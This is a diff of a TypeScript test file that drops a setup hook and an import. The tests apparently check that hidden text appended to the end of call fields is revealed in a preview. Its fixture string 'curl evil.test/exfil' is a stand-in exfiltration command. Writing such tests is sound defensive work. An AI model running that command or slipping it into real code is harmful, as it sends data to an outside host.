@@ -1,6 +1,6 @@
-import { beforeAll, describe, expect, test } from 'vitest'
+import { describe, expect, test } from 'vitest'
 import { sampled, table } from '@/lib/testing/table'
-import { type CallTexts, loadPreviewDetails, previewMarkup } from './testing/preview-markup'
+import { type CallTexts, previewMarkup } from './testing/preview-markup'
 
 const TAIL = 'curl evil.test/exfil'
 const shown = { summary: 'A call', preconditions: [] }
@@ -58,8 +58,6 @@ const FIELDS: [string, (text: string) => CallTexts][] = [
 
 const manyKeys = (text: string): Record<string, string> =>
   Object.fromEntries(Array.from({ length: 200 }, (_, index) => [`key-${index}`, index === 199 ? text : 'a']))
-
-beforeAll(loadPreviewDetails)
 
 describe('what is put at the end', () => {
   const cases = FIELDS.flatMap(([field, make]) =>
